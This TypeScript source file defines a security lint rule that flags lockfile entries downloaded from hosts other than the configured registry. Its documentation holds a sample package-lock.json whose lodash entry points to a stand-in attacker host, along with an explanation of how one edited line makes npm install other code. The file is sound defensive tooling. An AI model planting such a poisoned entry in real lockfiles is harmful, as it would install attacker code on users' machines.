import type { PopularNames } from '../../know/identity/popular-names.ts';
import { replaceUrl, useUsualUrl } from '../../read/lockfile/faults/edit-url.ts';
import type { LockEntry, Lockfile } from '../../read/lockfile/model/lockfile.ts';
import { splitPackageName } from '../../read/manifest/package-name.ts';
import { describeBase, HEAD } from '../../read/project/base.ts';
import { sameInBase } from '../../read/project/locked/same-in-base.ts';
import type { Project } from '../../read/project/project.ts';
import { isPrivateScope } from '../../read/project/registries/private-scopes.ts';
import { registryOfScope } from '../../read/project/registries/registry-of-scope.ts';
import { scopeRegistryFix } from '../../read/project/registries/scope-registry-fix.ts';
import type { TextEdit } from '../../read/text/edit.ts';
import type { FileEdit, Related } from '../../read/text/finding.ts';
import { groupBy } from '../../read/text/group-by.ts';
import { scopeOf } from '../../read/text/paths/scope-of.ts';
import { redactUserinfo } from '../../read/text/paths/web-url.ts';
import { formatPackage } from '../check/describe-package.ts';
import { defineRule, type Found } from '../check/rule.ts';
import { foreignDownloads } from '../entries/foreign-downloads.ts';
import { restoreCommand } from '../entries/restore-command.ts';
import {
  excludesMainHost,
  findSourceFaults,
  type SourceFaults,
  type SourceReason,
} from '../entries/source-faults.ts';
import { addMirrorOf, allowHost } from '../policy/edit-policy.ts';

/**
 * npm 11 and earlier download from any URL in a lockfile entry, so a single edited line suffices to install something
 * else. Known false positives: a registry that redirects its tarballs to another host, which `allowedHosts` can list.
 */
interface ForeignSource {
  readonly reason: SourceReason | 'main-host' | 'new-main-host' | 'download';
  readonly name: string;
  readonly host: string;
  readonly expected: string;
  readonly holdsCredentials: boolean;
  /** Without any password. */
  readonly address: string;
  readonly scope: string | null;
  /** The number of packages concerned; for a main host, the number of all. */
  readonly count: number;
  readonly total: number;
  /** Whether the base has the entries with the same source and hash. */
  readonly isInBase: boolean;
}

export const lockfileForeignSource = defineRule({
  id: 'lockfile-foreign-source',
  category: 'lockfile',
  preset: 'security',
  severity: 'error',
  facts: [],
  options: {},
  docs: {
    summary: 'A lockfile entry that is downloaded from a host other than its configured registry.',
    why: `npm up to version 11 downloads each package from the URL in its lockfile entry, whatever its
host. The hash in the entry does not help, as whoever wrote the URL also wrote the hash. Reviewers rarely read lockfiles.

URLs of the public registry are always accepted, as npm replaces their host. Another path on the registry's host counts
as another registry.

A runtime in pnpm-lock.yaml, such as \`node@runtime:22.14.0\`, has to come from its publisher or a mirror that
\`nodeDownloadMirrors\` names.

A host that serves at least 80% of the packages in a file is probably a mirror: one finding asks you to add it to
\`mirrors\`. It is an error if the file in the base (the last commit, or the commit given with \`check --base\`) has
nothing from that host.

With \`check --base\`, an entry with the same URL and hash as in the base is only a warning. Compared with the last commit
it is an error, as it may have been committed unseen. More than ten such entries of one host are a warning.`,
    bad: `-- package.json --
{ "name": "shop", "dependencies": { "lodash": "^4.17.21", "vue": "^3.5.0" } }
-- package-lock.json --
{
  "name": "shop",
  "lockfileVersion": 3,
  "packages": {
    "": { "name": "shop", "dependencies": { "lodash": "^4.17.21", "vue": "^3.5.0" } },
    "node_modules/lodash": {
      "version": "4.17.21",
      "resolved": "https://evil.example.test/lodash/-/lodash-4.17.21.tgz",
                  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ lockfile-foreign-source
      "integrity": "sha512-LvzKPkRBNwHfvFLbfDjmrfAfjLcaWNyIaSZvMRTYYCJ1u1NlAJsFRmDCoVBfIGpvjJU4bpxGMHpkvZ9hhVnjrA=="
    },
    "node_modules/vue": {
      "version": "3.5.13",
      "resolved": "https://registry.public.example.test/vue/-/vue-3.5.13.tgz",
      "integrity": "sha512-wmeiSMxkZCSc+PM2w2VRsOYAZC8GdipNFRTsLSfodVqI9mbejKeXEGr8SckuLnrQPGe3oJN5c3K0vpoU9q/wCQ=="
    }
  }
}
`,
    good: `-- package.json --
{ "name": "shop", "dependencies": { "lodash": "^4.17.21" } }
-- package-lock.json --
{
  "name": "shop",
  "lockfileVersion": 3,
  "packages": {
    "": { "name": "shop", "dependencies": { "lodash": "^4.17.21" } },
    "node_modules/lodash": {
      "version": "4.17.21",
      "resolved": "https://registry.public.example.test/lodash/-/lodash-4.17.21.tgz",
      "integrity": "sha512-LvzKPkRBNwHfvFLbfDjmrfAfjLcaWNyIaSZvMRTYYCJ1u1NlAJsFRmDCoVBfIGpvjJU4bpxGMHpkvZ9hhVnjrA=="
    }
  }
}
`,
  },
  perEntry: {
    readsEdges: true,
    keepsWhole: (_, entries) => excludesMainHost(entries, MOST_SINGLE),
    holds: (found: readonly ForeignSource[]) =>
      found.length <= MOST_SINGLE &&
      found.every(({ count, reason }) => count === 1 && reason !== 'main-host' && reason !== 'new-main-host'),
  },
  check: {
    *lockfile(lockfile, { project, entries: looked }): Generator<Found<ForeignSource>> {
      const { faults, mainHost } = findSourceFaults(lockfile, project, looked);
      const isInBase = sameInBase(lockfile, project);
      for (const { entry, url, host, expected } of foreignDownloads(lockfile, looked, project)) {
        const address = redactUserinfo(url.value);
        const data = { reason: 'download', name: entry.name, host, expected, address, scope: null } as const;
        yield {
          span: url.span,
          data: { ...data, holdsCredentials: false, count: 1, total: 0, isInBase: isInBase(entry) },
          package: entry.name,
          ...(entry.version === undefined ? {} : { version: entry.version.value }),
        };
      }
      for (const entries of groupsOf(faults, isInBase)) {
        // Nobody reads hundreds of identical findings.
        const isMany = entries.length > MOST_SINGLE;
        for (const entry of isMany ? entries.slice(0, 1) : entries) {
          const { reason, host, expected, holdsCredentials } = faults.get(entry)!;
          const { name } = entry;
          const scope = scopeOf(name) ?? null;
          const isKept = isInBase(entry);
          const isHabit = isKept && (isMany || project.base.revision !== HEAD.revision);
          const isPrivate = project.policy.privateScopes.some((item) => item.scope === scope);
          yield {
            span: entry.resolved!.span,
            data: {
              reason,
              name,
              host,
              expected,
              holdsCredentials,
              address: redactUserinfo(entry.resolved!.value),
              scope,
              count: isMany ? entries.length : 1,
              total: 0,
              isInBase: isKept,
            },
            ...((reason === 'public' && !isPrivate) || (isHabit && reason === 'foreign' && !holdsCredentials)
              ? { severity: 'warning' }
              : {}),
            package: name,
            ...(entry.version === undefined ? {} : { version: entry.version.value }),
            ...(isMany ? { related: relatedTo(lockfile, entries.slice(1, MOST_SINGLE + 1)) } : {}),
          };
        }
      }
      if (mainHost === undefined) return;
      const { host, base, count, total, first, isNew } = mainHost;
      yield {
        span: first.resolved!.span,
        severity: isNew === true ? 'error' : 'warning',
        data: {
          reason: isNew === true ? 'new-main-host' : 'main-host',
          name: '',
          host,
          expected: '',
          holdsCredentials: false,
          address: base,
          scope: null,
          count,
          total,
          isInBase: isNew === false,
        },
      };
    },
  },
  message({ data, version }, base) {
    const { name, host, expected, scope, count, total, isInBase } = data;
    const one = formatPackage(name, version);
    const what = count === 1 ? `${one} is` : `${one} and ${count - 1} more are`;
    switch (data.reason) {
      case 'foreign':
        return `${what} fetched from ${host}${data.holdsCredentials ? ', by a URL with credentials,' : ','} but ${expected} is configured to serve ${count === 1 ? 'it' : 'them'}. ${
          isInBase
            ? `${count === 1 ? 'Its URL is' : 'Their URLs are'} the same in ${describeBase(base)}. Add the host to "allowedHosts", or lock ${count === 1 ? 'it' : 'them'} again.`
            : 'Find out who changed it, or add the host to "allowedHosts".'
        }`;
      case 'download':
        return `${one} is downloaded from ${host}, not from ${expected}, and pnpm runs it. Find out who changed it, or add the host to "allowedHosts".`;
      case 'public':
        return `${what} fetched from the public registry (${host}), but ${scope} is mapped to ${expected}. Remove ${count === 1 ? 'its entry' : 'their entries'} and lock ${count === 1 ? 'it' : 'them'} again.`;
      case 'http':
        return `${what} fetched from ${host} over http, so anyone on the network path can replace ${count === 1 ? 'it. Use https, as its' : 'them. Use https, as their'} registry does.`;
      case 'credentials':
        return `The URL of ${count === 1 ? one : `each of ${count} packages, first ${one},`} contains credentials that everyone who reads this file can use. Remove and revoke them.`;
      case 'main-host':
        return `${host} serves ${count} of ${total} packages here, but no registry setting or "mirrors" names it. Add it to "mirrors" if it is yours, else lock the packages again.`;
      case 'new-main-host':
        return `${host} serves ${count} of ${total} packages here and none in ${describeBase(base)}, and no registry setting or "mirrors" names it. Restore the lockfile from git and find out who changed it.`;
    }
  },
  *fix(found, { uri, project, file, text, popular }) {
    const { data, version } = found;
    const { reason, host, address, name, count } = data;
    if (reason === 'main-host' || reason === 'new-main-host') {
      const edits = addMirrorOf(project, text, address);
      if (edits === undefined) return;
      yield { title: `Add ${address} to mirrors in dependency-hygiene.json`, applicability: 'unsafe', edits };
      return;
    }
    if (file.kind !== 'lockfile') return;
    const entries = entriesOf(found, file, project);
    const editAll = (edit: (entry: LockEntry) => TextEdit | undefined): readonly FileEdit[] =>
      entries.flatMap((entry) => edit(entry) ?? []).map((change) => ({ uri, ...change }));
    if (reason === 'http' || reason === 'credentials') {
      const edits = editAll((entry) => replaceUrl(file, entry, mended(entry.resolved!.value, reason)));
      const whose = count === 1 ? `the URL of ${formatPackage(name, version)}` : `${count} URLs`;
      const title = reason === 'http' ? `Use https for ${host}` : `Remove the credentials from ${whose}`;
      if (edits.length > 0) yield { title, applicability: 'unsafe', edits };
      return;
    }
    const unmapped =
      reason === 'foreign' ? entries.filter((entry) => isUnmapped(entry, project, popular)) : [];
    const scopes = new Set(unmapped.map((entry) => scopeOf(entry.name)!));
    for (const scope of scopes.size === 1 ? scopes : []) {
      const registry = isPrivateScope(project, scope) ? registryOfScope(scope, project) : undefined;
      const fix = scopeRegistryFix(project, scope, registry, text);
      if (fix !== undefined) yield fix;
    }
    // Otherwise the public registry would be asked for a private name that anybody may own there.
    if (reason === 'foreign' && unmapped.length === 0) {
      // The layout of the public registry's URLs is known, and the hash still decides what may be installed.
      const edits = editAll((entry) => {
        const usual = usualUrl(entry, project);
        return usual === undefined ? undefined : useUsualUrl(file, entry, usual);
      });
      const what = count === 1 ? `${name} ${version}` : `${name} ${version} and ${count - 1} more`;
      const title = `Fetch ${what} from ${data.expected}`;
      if (edits.length === entries.length && edits.length > 0)
        yield { title, applicability: 'unsafe', edits };
    }
    if (!data.isInBase) yield* restoreCommand(uri, project, found.span);
    // An allowed host is allowed for every path.
    const edits =
      (reason === 'foreign' || reason === 'download') && !host.includes('/')
        ? allowHost(project, text, host)
        : undefined;
    if (edits === undefined) return;
    yield { title: `Add ${host} to allowedHosts in dependency-hygiene.json`, applicability: 'unsafe', edits };
  },
});

/** Beyond this number, packages with the same fault and host are one finding. */
const MOST_SINGLE = 10;

type Faults = SourceFaults['faults'];

/** Groups packages with the same fault, host and registry, and if a scope's mapping matters also the same scope. */
function groupsOf(faults: Faults, isInBase: (entry: LockEntry) => boolean): Iterable<readonly LockEntry[]> {
  const groups = groupBy(faults.keys(), (entry) => {
    const { reason, host, expected, holdsCredentials } = faults.get(entry)!;
    return `${reason} ${isInBase(entry)} ${holdsCredentials} ${host} ${expected} ${reason === 'public' ? scopeOf(entry.name) : ''}`;
  });
  return groups.values();
}

/**
 * Checks whether no registry is configured for the scope, and nothing indicates that the public registry serves the
 * package.
 */
function isUnmapped({ name }: LockEntry, project: Project, popular: PopularNames): boolean {
  const scope = scopeOf(name);
  if (scope === undefined || project.npmConfig.registryFor(name).scope !== undefined) return false;
  return isPrivateScope(project, scope) || !popular.has(name);
}

/** Returns the entries of a finding, the one at its place first. */
function entriesOf(
  { span, data }: Found<ForeignSource>,
  lockfile: Lockfile,
  project: Project,
): readonly LockEntry[] {
  const isHere = (entry: LockEntry) => entry.resolved?.span.start === span.start;
  if (data.count === 1) return lockfile.entries.filter(isHere);
  const { faults } = findSourceFaults(lockfile, project);
  for (const group of groupsOf(faults, sameInBase(lockfile, project))) {
    if (isHere(group[0]!)) return group;
  }
  return [];
}

function relatedTo({ uri }: Lockfile, entries: readonly LockEntry[]): readonly Related[] {
  return entries.map(({ name, version, resolved }) => ({
    uri,
    span: resolved!.span,
    message: `${formatPackage(name, version?.value)} as well.`,
  }));
}

function mended(address: string, reason: 'http' | 'credentials'): string {
  return reason === 'http'
    ? address.replace(/^http:/i, 'https:')
    : address.replace(/^([a-z+]+:\/\/)[^/?#]*@/i, '$1');
}

/**
 * Returns the URL of the package's tarball in the public registry; undefined for another registry or an unknown
 * version.
 */
function usualUrl({ name, version }: LockEntry, { npmConfig }: Project): string | undefined {
  const registry = npmConfig.registryFor(name);
  if (version === undefined || !registry.usable || !npmConfig.isPublic(registry.url)) return undefined;
  const file = `${splitPackageName(name).bare}-${version.value.replace(/\+.*$/, '')}.tgz`;
  return `${registry.url}${name}/-/${file}`;
}
